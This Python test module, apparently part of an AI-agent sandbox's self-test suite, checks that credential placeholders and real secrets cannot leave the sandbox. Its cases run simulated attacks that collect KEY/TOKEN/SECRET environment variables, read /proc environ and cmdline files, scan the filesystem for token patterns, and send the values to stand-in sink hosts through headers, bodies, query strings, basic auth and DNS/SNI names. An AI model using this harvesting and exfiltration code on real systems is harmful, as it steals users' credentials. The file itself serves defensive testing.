"""Credentials by reference: the agent holds placeholders only; the real values never enter
the sandbox and a placeholder goes nowhere but its bound host, in its declared place, over TLS.

The attacks send every credential-looking value of their environment wherever they can. In the
real configuration those are placeholders, which the gate blocks (``credential:leak:*``) or
which are useless; under ``cred-in-env`` the environment also holds the real value
(``LEAKED_API_KEY``), the gate has no way to recognise it, and the allowed route to the sink
delivers it - which is what each case reports as an escape.
"""

from __future__ import annotations

import base64
import json
import re
from urllib.parse import quote

from agentvm.selftest.cases.network import PRELUDE, evidence, http_upstream, prelude_run, steps, summary
from agentvm.selftest.framework import Env, Verdict, case

CRED = r'''
import re
CANDS = {k: v for k, v in sorted(os.environ.items()) if re.search(r"KEY|TOKEN|SECRET|PASSW", k)}
print("CANDIDATES " + json.dumps(CANDS), flush=True)
A = "allowed.selftest"
'''


def _candidates(o) -> dict:
    for line in o.stdout.splitlines():
        if line.startswith("CANDIDATES "):
            try:
                return json.loads(line[len("CANDIDATES "):])
            except ValueError:
                return {}
    return {}


def _forms(v: str) -> list[bytes]:
    b = v.encode()
    return [b, quote(v, safe="").encode(), base64.b64encode(b), b.lower()]


def _decoded(data: bytes) -> bytes:
    """``data`` plus every basic-auth token in it, decoded."""
    out = [data]
    for m in re.finditer(rb"(?i)basic ([A-Za-z0-9+/=]{4,})", data):
        try:
            out.append(base64.b64decode(m.group(1)))
        except ValueError:
            pass
    return b"\n".join(out)


def cred_judge(env: Env, o, what: str, *, need_alert: bool = True, upstream=None) -> Verdict:
    """Escaped when a real credential value or a placeholder reached the sink (or any other
    policy evidence); contained otherwise, and then the gate must have raised leak alerts."""
    cands = _candidates(o)
    if not cands:
        return Verdict.error(f"{what}: the attack printed no candidates: {o.out.strip()[-300:]}")
    values = {"real credential": env.cred_value, "real github token": env.gh_value, "real aws-style secret": env.aws_value,
              **cands}
    leaked = []
    received = [(k, _decoded(d)) for k, d in o.sink] + [("upstream", _decoded(d)) for d in (upstream or [])]
    for label, v in values.items():
        if len(v) < 8:
            continue
        for kind, data in received:
            if any(f in data for f in _forms(v)):
                leaked.append(f"{label} reached {'the sink' if kind != 'upstream' else 'an upstream'} ({data[:100]!r})")
                break
    ev = leaked + [e for e in evidence(o) if not e.startswith("the sink received")]
    if ev:
        return Verdict.escaped(f"{what}: " + "; ".join(ev[:3]))
    if "Traceback (most recent call last)" in o.stderr:
        return Verdict.error(f"{what}: the attack crashed: {o.stderr.strip()[-300:]}")
    alerts = [l for l in o.egress if l.get("alert")]
    if need_alert and not alerts:
        return Verdict.error(f"{what}: no placeholder reached the gate's leak detection (attack not exercised): {summary(o)}")
    rules = sorted({str(l.get("rule")) for l in alerts})
    return Verdict.contained(f"{what}: no credential value reached the sink ({len(cands)} candidates: {sorted(cands)}); "
                             f"{len(alerts)} leak alert(s) {rules}; " + summary(o, 4))


def _send_each(env: Env, body: str, what: str, **kw) -> Verdict:
    return cred_judge(env, prelude_run(env, CRED + body, **kw), what)


@case("cred.header-unbound-host", "credentials", "Credential values in Authorization to the allowed, unbound host and to the sink's name",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    return _send_each(env, r"""
for k, v in CANDS.items():
    for host in (A, SINK_NAME):
        note("bearer %s -> %s" % (k, host), send(get(host, P, "/h", b"Authorization: Bearer %s\r\n" % v.encode())), forbidden=False)
""", "Authorization to unbound hosts")


@case("cred.in-body", "credentials", "Credential values in a POST body (JSON and form) to the allowed, unbound host",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    # an upstream of our own that reads whole bodies (the sink keeps only its first read)
    with http_upstream(lambda _r: b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok") as up:
        o = prelude_run(env, CRED + f"""
U = {up.port}
""" + r"""
for k, v in CANDS.items():
    note("json " + k, send(get(A, U, "/b", b"Content-Type: application/json\r\n", method=b"POST", body=json.dumps({"k": v}).encode())), forbidden=False)
    note("form " + k, send(get(A, U, "/b", b"Content-Type: application/x-www-form-urlencoded\r\n", method=b"POST", body=b"key=" + v.encode())), forbidden=False)
""", allow=(f"allowed.selftest:{up.port}",))
    return cred_judge(env, o, "credential in a request body", upstream=up.requests)


@case("cred.in-query-and-path", "credentials", "Credential values in the query string and the path to the allowed, unbound host",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    return _send_each(env, r"""
for k, v in CANDS.items():
    note("query " + k, send(get(A, P, "/q?api_key=" + v)), forbidden=False)
    note("path " + k, send(get(A, P, "/p/" + v + "/x")), forbidden=False)
""", "credential in query/path")


@case("cred.undeclared-header", "credentials",
      "Credential values in undeclared headers (X-Api-Key, Cookie, Proxy-Authorization, User-Agent, Referer)",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    return _send_each(env, r"""
for k, v in CANDS.items():
    b = v.encode()
    for name, hdr in (("x-api-key", b"X-Api-Key: " + b), ("cookie", b"Cookie: session=" + b),
                      ("proxy-auth", b"Proxy-Authorization: Bearer " + b), ("user-agent", b"User-Agent: " + b),
                      ("referer", b"Referer: https://x.test/" + b)):
        note("%s %s" % (name, k), send(get(A, P, "/u", hdr + b"\r\n")), forbidden=False)
""", "credential in undeclared headers")


@case("cred.header-name", "credentials", "A credential value used as a header *name* (X-<value>: 1) to the allowed, unbound host",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    # HTTP header names are case-insensitive and arrive lower-cased upstream: a placeholder
    # in a name must be caught whatever its case (the judge also looks for the lower-cased form)
    return _send_each(env, r"""
for k, v in CANDS.items():
    b = v.encode().replace(b"_", b"-")
    note("header-name " + k, send(get(A, P, "/n", b"X-" + b + b": 1\r\n")), forbidden=False)
    note("header-name upper " + k, send(get(A, P, "/n", b"X-" + b.upper() + b": 1\r\n")), forbidden=False)
""", "credential in a header name")


@case("cred.basic-auth", "credentials", "Credential values as HTTP basic-auth user and password to the allowed, unbound host",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    return _send_each(env, r"""
import base64
for k, v in CANDS.items():
    for pair in (v + ":x", "x:" + v):
        note("basic %s" % k, send(get(A, P, "/basic", b"Authorization: Basic " + base64.b64encode(pair.encode()) + b"\r\n")), forbidden=False)
""", "credential in basic auth")


@case("cred.plain-http-bound-host", "credentials",
      "The exact declared Authorization to the credential's bound hosts over plain HTTP (no TLS: no swap)",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    p = env.sink.port
    return cred_judge(env, prelude_run(env, CRED + r"""
for k, v in CANDS.items():
    note("bearer %s api.selftest" % k, send(get("api.selftest", P, "/v1", b"Authorization: Bearer %s\r\n" % v.encode())), forbidden=False)
    note("token %s api.github.com" % k, send(get("api.github.com", P, "/user", b"Authorization: token %s\r\n" % v.encode())), forbidden=False)
""", allow=(f"api.selftest:{p}", f"api.github.com:{p}")), "plain HTTP to bound hosts")


@case("cred.to-sink-name", "credentials", "Credential values to the sink's own name (plain HTTP and through a TLS tunnel)",
      weakened_by="cred-in-env+permissive-gate")
def _(env: Env) -> Verdict:
    o = prelude_run(env, CRED + r"""
for k, v in CANDS.items():
    note("plain " + k, send(get(SINK_NAME, P, "/s?k=" + v, b"Authorization: Bearer %s\r\n" % v.encode())))
    hd, r = tunnel(SINK_NAME, P, SINK_NAME, b"GET /s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (SINK_NAME.encode(), P, v.encode()))
    note("tls " + k, hd)
""")
    return cred_judge(env, o, "credentials to the sink's name", need_alert=False)


@case("cred.connect-host-and-sni", "credentials",
      "Credential values in a CONNECT host and a TLS SNI (<value>.canary-exfil.selftest): the gate must neither allow nor resolve them",
      weakened_by="cred-in-env+permissive-gate")
def _(env: Env) -> Verdict:
    o = prelude_run(env, CRED + r"""
for k, v in CANDS.items():
    label = v.lower()
    if not re.fullmatch(r"[a-z0-9-]{1,63}", label):
        print("skip", k, "(not a DNS label)"); continue
    n = label + "." + CANARY_HOST
    note("connect " + k, connect(n, P)[1])
    hd, r = tunnel(A, P, n, b"GET / HTTP/1.1\r\nHost: " + n.encode() + b"\r\n\r\n")
    note("sni " + k, r, forbidden=False)
    note("plain-host " + k, send(get(n, P, "/")))
""")
    v = cred_judge(env, o, "credentials in CONNECT host / SNI", need_alert=False)
    if v.status == "contained":
        cands = _candidates(o)
        ring = [l for l in o.egress if l.get("verdict") == "allow" or l.get("rule") in ("dns-failure", "address-class")]
        for l in ring:  # a name carrying a value was allowed or passed to the resolver: exfiltration via DNS
            if any(x.lower() in str(l.get("host", "")).lower() for x in [env.cred_value, env.gh_value, *cands.values()]):
                return Verdict.escaped(f"a name carrying a credential value got through the policy: {l.get('host')} ({l.get('rule')})")
        if not [l for l in o.egress if str(l.get("rule", "")).startswith("credential:leak")]:
            return Verdict.error("no placeholder reached the leak detection: " + summary(o))
    return v


@case("cred.env-proc-scan", "credentials",
      "Scan the environment, /proc/*/environ and /proc/*/cmdline for credential values (only placeholders may be found)",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    code = r"""
import os, glob
print("ENV", dict(os.environ))
for f in sorted(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/task/*/environ")):
    try:
        print(f, open(f, "rb").read().replace(b"\0", b" ").decode(errors="replace")[:4000])
    except OSError as e:
        print(f, e.strerror)
"""
    o = env.sandbox(code, lang="python")
    seen = [s for s in env.canary_seen(o.out) if s in ("credential", "github token", "operator env")]
    if seen:
        return Verdict.escaped(f"real values visible in the sandbox: {seen}")
    if "CANARY_API_KEY': 'sk-" not in o.stdout or "GITHUB_TOKEN': 'ghp_" not in o.stdout:
        return Verdict.error(f"placeholders missing from the environment: {o.out[:300]}")
    n = o.stdout.count("/proc/")
    return Verdict.contained(f"only placeholders (sk-..., ghp_...) in the environment; {n} /proc entries read or refused, no real value")


@case("cred.operator-env", "credentials",
      "Nothing of the operator's secrets (SELFTEST_OPERATOR_SECRET, the vault's values) in any environment the sandbox can read",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    code = r"""
import os, glob
blob = []
for f in glob.glob("/proc/[0-9]*/environ") + ["/proc/self/environ"]:
    try:
        blob.append(open(f, "rb").read().decode(errors="replace"))
    except OSError:
        pass
for k, v in os.environ.items():
    if "OPERATOR" in k or "SELFTEST" in k or v.startswith("CANARY-"):
        print("SUSPECT", k, v)
print("ENVIRON-NAMES", sorted(set(x.split("=", 1)[0] for b in blob for x in b.split("\0") if "=" in x)))
print("VALUES", " ".join(x.split("=", 1)[1] for b in blob for x in b.split("\0") if "=" in x))
"""
    o = env.sandbox(code, lang="python")
    seen = [s for s in env.canary_seen(o.out) if s in ("credential", "github token", "operator env")]
    if seen or "SELFTEST_OPERATOR_SECRET" in o.stdout:
        return Verdict.escaped(f"operator secrets visible in the sandbox: {seen or ['SELFTEST_OPERATOR_SECRET name']}: "
                               + "; ".join(l[:100] for l in o.stdout.splitlines() if l.startswith("SUSPECT"))[:300])
    names = next((l for l in o.stdout.splitlines() if l.startswith("ENVIRON-NAMES")), "")
    if not names:
        return Verdict.error(f"no environment read: {o.out[-300:]}")
    return Verdict.contained(f"no operator secret in the sandbox's environments; {names[:300]}")


@case("cred.file-scan", "credentials",
      "Scan every readable file (outside /usr, /sys, /dev; of /proc only the agent's own files) for credential values and canaries",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    code = r"""
import os, re, time
pat = re.compile(rb"CANARY-[A-Z]+-[0-9A-Za-z-]+|ghp_[A-Za-z0-9]{20,}|sk-[A-Za-z0-9]{20,}")
found, files, t0 = {}, 0, time.monotonic()
for root, dirs, names in os.walk("/", onerror=lambda e: None):
    if root == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr")]
        names = list(names) + ["proc/self/environ", "proc/self/cmdline", "proc/self/auxv"]
    for n in names:
        p = os.path.join(root, n)
        try:
            if not os.path.isfile(p) or (not p.startswith("/proc/") and os.path.getsize(p) > 4 << 20):
                continue
            data = open(p, "rb").read()
        except OSError:
            continue
        files += 1
        for m in set(pat.findall(data)):
            found.setdefault(m.decode(errors="replace"), p)
    if time.monotonic() - t0 > 2.0:
        print("TIME BUDGET reached"); break
print("FILES", files)
for v, p in found.items():
    print("FOUND", p, v)
"""
    o = env.sandbox(code, lang="python")
    seen = env.canary_seen(o.out)
    if seen:
        return Verdict.escaped(f"canary values in readable files: {seen}: "
                               + "; ".join(l for l in o.stdout.splitlines() if l.startswith("FOUND") and "CANARY-" in l)[:300])
    files = next((l for l in o.stdout.splitlines() if l.startswith("FILES")), "")
    if not files:
        return Verdict.error(f"the scan did not finish: {o.out[-300:]}")
    found = [l.split()[-1][:6] + "..." for l in o.stdout.splitlines() if l.startswith("FOUND")]
    return Verdict.contained(f"{files.split()[1]} readable files scanned; only placeholder-shaped tokens found: {found[:6]}")


@case("cred.response-echo", "credentials",
      "An upstream echoes the real value (headers, body): the agent must see only its placeholder there and nowhere else",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    real = env.cred_value

    def echo(_req: bytes) -> bytes:
        body = f'{{"your_key": "{real}", "note": "echoed {real}"}}'.encode()
        return (f"HTTP/1.1 200 OK\r\nX-Echo-Key: {real}\r\nSet-Cookie: k={real}\r\nContent-Type: application/json\r\n"
                f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body

    with http_upstream(echo) as up:
        body = CRED + f"""
r = send(get(A, {up.port}, "/whoami"))
print("RESPONSE", r.decode(errors="replace"))
"""
        o = prelude_run(env, body, allow=(f"allowed.selftest:{up.port}",))
    seen = [s for s in env.canary_seen(o.out) if s in ("credential", "github token")]
    if seen:
        where = "the upstream's response" if real in o.stdout.split("RESPONSE", 1)[-1] else "the environment"
        return Verdict.escaped(f"the real value is visible to the agent (via {where})")
    if not up.requests:
        return Verdict.error(f"the echo upstream was never reached: {o.out[-300:]}")
    scrubbed = [l.get("scrubbed") for l in o.egress if l.get("scrubbed")]
    ph = _candidates(o).get("CANARY_API_KEY", "?")
    return Verdict.contained(f"the response reached the agent scrubbed ({scrubbed} replacement(s) logged; "
                             f"placeholder in it: {ph in o.stdout.split('RESPONSE', 1)[-1]})")


@case("cred.revoked", "credentials",
      "After `secret revoke`, the placeholder to its bound host is refused, and no value the agent holds works anywhere",
      weakened_by="cred-in-env")
def _(env: Env) -> Verdict:
    from agentvm.vault import Vault

    v = Vault(env.paths.home / "vault")
    p = env.sink.port
    v.revoke("canary-api")
    try:
        o = prelude_run(env, CRED + r"""
for k, v in CANDS.items():
    hd, r = tunnel("api.selftest", P, "api.selftest", b"GET /v1 HTTP/1.1\r\nHost: api.selftest:%d\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (P, v.encode()))
    note("bound " + k, r, forbidden=False)
    note("anywhere " + k, send(get(A, P, "/r", b"Authorization: Bearer %s\r\n" % v.encode())), forbidden=False)
""", allow=(f"api.selftest:{p}",))
    finally:
        v.restore("canary-api")
    verdict = cred_judge(env, o, "revoked credential", need_alert=False)
    if verdict.status != "contained":
        return verdict
    swapped = [l for l in o.egress if "api" in (l.get("credentials") or [])]
    if swapped:
        return Verdict.escaped(f"the gate still swapped the revoked credential: {swapped[0]}")
    if not [l for l in o.egress if l.get("rule") == "credential:revoked:api"]:
        return Verdict.error("the revoked placeholder never reached the revocation check: " + summary(o))
    return Verdict.contained(verdict.evidence + "; the placeholder to api.selftest was refused credential:revoked:api")


# -- echoes in other forms: an upstream that reflects the real value compressed, base64'd,
# percent-encoded, JSON-escaped or in a trickle of tiny chunks --------------------------------
VIEW_LIMIT = 1 << 24  # decoded bytes one decoding of one view may produce (bombs stay bounded)


def _bounded_decoders() -> list:
    """Decoders of compressed data, each bounded to :data:`VIEW_LIMIT` bytes of output."""
    import zlib

    def inflate(wbits: int):
        def dec(b: bytes) -> bytes:
            out, rest = b"", b
            while rest and len(out) < VIEW_LIMIT:  # gzip may hold several members
                d = zlib.decompressobj(wbits)
                out += d.decompress(rest, VIEW_LIMIT - len(out))
                if not d.eof:
                    break
                rest = d.unused_data
            return out
        return dec

    decoders = [inflate(31), inflate(15), inflate(-15)]
    try:
        import brotli
        import zstandard
    except ImportError:  # pragma: no cover - both are dependencies
        return decoders
    def unbrotli(b: bytes) -> bytes:
        d, piece = brotli.Decompressor(), 1 << 20
        out = d.process(b, output_buffer_limit=piece)
        while len(out) < VIEW_LIMIT:  # it may hold decoded output even once it could take more input
            more = d.process(b"", output_buffer_limit=piece)
            if not more:
                break
            out += more
        return out[:VIEW_LIMIT]

    decoders += [unbrotli, lambda b: zstandard.ZstdDecompressor().decompress(b, max_output_size=VIEW_LIMIT)]
    return decoders


def _attempt(fn, arg) -> list[bytes]:
    """``fn(arg)`` as a list of views: nothing when it raises (a decoding that does not apply
    is no view; it must never stop the search for the others)."""
    try:
        out = fn(arg)
    except Exception:  # noqa: BLE001 - any decoder's failure means "not this encoding"
        return []
    return out if isinstance(out, list) else [out]


def _json_strings(part: bytes) -> list[bytes]:
    found: list[bytes] = []
    stack = [json.loads(part)]
    while stack:  # iterative: a deeply nested document is not a RecursionError here
        doc = stack.pop()
        if isinstance(doc, str):
            found.append(doc.encode("utf-8", "surrogatepass"))  # "\ud800" is valid JSON
        elif isinstance(doc, dict):
            stack += [*doc.keys(), *doc.values()]
        elif isinstance(doc, list):
            stack += doc
    return found


def _b64_tokens(v: bytes) -> list[bytes]:
    import binascii

    out = []
    for tok in set(re.split(rb'[\s",:;]+', v)):
        for k in range(4):  # the encoded text may start mid-quantum (a value inside a longer blob)
            t = tok[k:]
            for dec in (base64.b64decode, base64.urlsafe_b64decode):
                try:
                    out.append(dec(t + b"=" * (-len(t) % 4)))
                except (binascii.Error, ValueError):
                    pass
    return out


def _hex_runs(v: bytes) -> list[bytes]:
    """Runs of hex digits (16 or more), decoded at both alignments."""
    out = []
    for run in set(re.findall(rb"[0-9A-Fa-f]{16,}", v)):
        for k in (0, 1):
            t = run[k:len(run) - (len(run) - k) % 2]
            out.append(bytes.fromhex(t.decode("ascii")))
    return out


MAX_VIEWS = 4000


def decoded_views(data: bytes) -> list[bytes]:
    """Every way a client could read ``data`` (see :func:`all_decoded_views`)."""
    return all_decoded_views(data)[0]


def all_decoded_views(data: bytes) -> tuple[list[bytes], bool]:
    """Every way a client could read ``data``: as is, and after up to three decodings of
    gzip/deflate/br/zstd, base64/base64url (per token, at any of the four alignments), hex
    runs, percent-encoding and JSON strings; and whether that is all of them (False: more than
    :data:`MAX_VIEWS`, so a judge must not call the data clean).

    Total: any bytes give a list of views, never an exception (each decoder that does not
    apply gives nothing), and bounded (:data:`VIEW_LIMIT` per decoding). Bytes stay bytes
    throughout: percent-decoding is ``unquote_to_bytes``, never text decoded as UTF-8."""
    from urllib.parse import unquote_to_bytes

    decoders = _bounded_decoders()

    def step(v: bytes) -> list[bytes]:
        out: list[bytes] = []
        body = v.split(b"\r\n\r\n", 1)[-1]
        for part in {v, body, *_attempt(dechunk, body)}:
            for dec in decoders:
                out += _attempt(dec, part)
            out += _attempt(_json_strings, part)
        out += _attempt(unquote_to_bytes, v)
        out += _attempt(unquote_to_bytes, v.replace(b"+", b" "))
        out += _attempt(_b64_tokens, v)
        out += _attempt(_hex_runs, v)
        return [o for o in out if isinstance(o, bytes) and o and o != v]

    seen, frontier, complete = {bytes(data)}, [bytes(data)], True
    for _ in range(3):
        nxt = []
        for v in frontier:
            for o in step(v):
                if o in seen:
                    continue
                if len(seen) >= MAX_VIEWS:
                    complete = False
                    break
                seen.add(o)
                nxt.append(o)
        frontier = nxt
    return list(seen), complete


def dechunk(body: bytes) -> bytes:
    """A chunked HTTP body's data (the body itself when it is not validly chunked)."""
    out, rest = b"", body
    while rest:
        size, sep, rest = rest.partition(b"\r\n")
        try:
            n = int(size.split(b";")[0], 16)
        except ValueError:
            return body
        if not sep or n == 0:
            break
        out, rest = out + rest[:n], rest[n + 2:]
    return out


def _echo_case(env: Env, respond, what: str, *, real: str | None = None) -> Verdict:
    """``respond(real) -> response bytes`` from an allowed upstream; the agent prints every
    response byte it got; the host decodes them every way a client could."""
    real = real or env.cred_value
    with http_upstream(lambda _r: respond(real)) as up:
        o = prelude_run(env, CRED + f"""
import base64
r = send(get(A, {up.port}, "/echo", b"Accept-Encoding: gzip, deflate, br, zstd\\r\\n"))
print("RAW " + base64.b64encode(r).decode(), flush=True)
""", allow=(f"allowed.selftest:{up.port}",))
    raw = b""
    for line in o.stdout.splitlines():
        if line.startswith("RAW "):
            raw = base64.b64decode(line[4:])
    if not up.requests:
        return Verdict.error(f"{what}: the echo upstream was never reached: {o.out[-300:]}")
    if not raw.startswith(b"HTTP/1.1 "):
        return Verdict.error(f"{what}: the agent got no response: {o.out[-300:]}")
    views, complete = all_decoded_views(raw)
    for view in views:
        for needle in (real.encode(), real.encode()[4:-4]):
            if needle in view:
                return Verdict.escaped(f"{what}: the real credential value reached the agent (decoded: ...{view[max(0, view.find(needle) - 40):view.find(needle) + 10]!r}...)")
    if not complete:
        return Verdict.error(f"{what}: what the agent got has over {MAX_VIEWS} decodings; not all were searched, "
                             "so it cannot be called clean")
    status = raw.split(b" ", 2)[1].decode()
    scrubbed = [l for l in o.egress if l.get("scrubbed")]
    refused = [l for l in o.egress if str(l.get("rule", "")).startswith("credential:uninspectable")]
    if not scrubbed and not refused:
        return Verdict.error(f"{what}: nothing was scrubbed or refused, so the echo was not exercised: {summary(o)}")
    how = f"refused ({refused[0]['rule']})" if refused else f"scrubbed {scrubbed[0].get('scrubbed')}x" + (
        f", decoded from {scrubbed[0]['decoded']}" if scrubbed[0].get("decoded") else "")
    return Verdict.contained(f"{what}: HTTP {status}; {how}; no decoding of what the agent got holds the value")


def _resp(body: bytes, *headers: str, chunk: int = 0) -> bytes:
    head = "HTTP/1.1 200 OK\r\nConnection: close\r\n" + "".join(h + "\r\n" for h in headers)
    if chunk:
        framed = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + chunk]), body[i:i + chunk]) for i in range(0, len(body), chunk))
        return (head + "Transfer-Encoding: chunked\r\n\r\n").encode() + framed + b"0\r\n\r\n"
    return (head + f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def _echo_json(real: str) -> bytes:
    return json.dumps({"authorization": f"Bearer {real}", "note": f"you sent {real}"}).encode()


@case("cred.echo-compressed", "credentials",
      "A bound upstream echoes the real value in gzip, deflate and br bodies (whatever the agent asked for)",
      weakened_by="raw-scrub")
def _(env: Env) -> Verdict:
    import gzip
    import zlib

    import brotli

    verdicts = [
        _echo_case(env, lambda real: _resp(gzip.compress(_echo_json(real)), "Content-Encoding: gzip",
                                           "Content-Type: application/json"), "gzip"),
        _echo_case(env, lambda real: _resp(zlib.compress(_echo_json(real)), "Content-Encoding: deflate"), "deflate"),
        _echo_case(env, lambda real: _resp(brotli.compress(_echo_json(real)), "Content-Encoding: br"), "br"),
    ]
    return _worst(verdicts)


@case("cred.echo-base64", "credentials",
      "A bound upstream echoes the real value base64'd: a Basic-style header and a base64url JSON body",
      weakened_by="raw-scrub")
def _(env: Env) -> Verdict:
    def respond(real: str) -> bytes:
        basic = base64.b64encode(f"agent:{real}".encode()).decode()
        return _resp(base64.urlsafe_b64encode(_echo_json(real)), f"X-Echo-Authorization: Basic {basic}")

    return _echo_case(env, respond, "base64 header and base64url body")


@case("cred.echo-escaped", "credentials",
      "A bound upstream echoes the real value percent-encoded (query style) and JSON-escaped",
      weakened_by="raw-scrub")
def _(env: Env) -> Verdict:
    from urllib.parse import quote, quote_plus

    def respond(real: str) -> bytes:
        body = json.dumps({"url": "/v1?key=" + quote(real, safe=""), "form": "key=" + quote_plus(real),
                           "escaped": real.replace("/", "\\/")}).encode()
        return _resp(body, "Content-Type: application/json")

    return _echo_case(env, respond, "percent-encoded and JSON-escaped", real=env.aws_value)


@case("cred.echo-trickle-stream", "credentials",
      "A bound upstream streams the echo as server-sent events in 1-3 byte chunks (base64 and gzip too)",
      weakened_by="raw-scrub")
def _(env: Env) -> Verdict:
    import gzip

    def sse(real: str) -> bytes:
        return b"".join(b"id: %d\ndata: %s\n\n" % (i, x) for i, x in enumerate(
            (_echo_json(real), base64.b64encode(real.encode()), real.encode())))

    return _worst([
        _echo_case(env, lambda real: _resp(sse(real), "Content-Type: text/event-stream", chunk=1), "SSE in 1-byte chunks"),
        _echo_case(env, lambda real: _resp(gzip.compress(sse(real)), "Content-Type: text/event-stream",
                                           "Content-Encoding: gzip", chunk=3), "gzip'd SSE in 3-byte chunks"),
    ])


def _worst(verdicts: list[Verdict]) -> Verdict:
    for status in ("escaped", "error"):
        bad = [v for v in verdicts if v.status == status]
        if bad:
            return Verdict(status, "; ".join(v.evidence for v in bad))
    return Verdict.contained("; ".join(v.evidence for v in verdicts))
